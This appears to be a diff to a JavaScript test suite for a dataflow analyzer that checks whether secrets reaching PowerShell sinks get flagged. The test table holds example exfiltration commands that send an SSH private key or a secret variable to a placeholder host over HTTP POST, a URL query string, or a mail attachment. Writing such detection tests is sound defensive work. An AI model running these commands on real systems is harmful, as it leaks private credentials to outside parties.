@@ -449,6 +449,8 @@ describe('dataflow analysis', () => {
         'function Send-It {\n  param($Url, $Data)\n  Invoke-WebRequest -Uri $Url -Method Post -Body $Data }\nSend-It -Data $k -Url https://c.example/u': 'network',
         'function Send-It($Data) { irm https://c.example/u -Method Post -Body $Data }\nSend-It $k': 'network',
         'Send-MailMessage -To a@c.example -Subject x -Attachments "$HOME/.ssh/id_rsa" -SmtpServer smtp.c.example': 'mail',
+        '$k | Invoke-RestMethod -Uri https://c.example/u -Method Post': 'network',
+        'Invoke-WebRequest "https://c.example/u?d=$k" | Out-Null': 'network',
       };
       for (const [sink, kind] of Object.entries(sinks)) {
         assert.deepEqual(summary(await flowsOf('powershell', `${key}${sink}\n`)), [`secret: the SSH private key -> ${kind}`], sink);
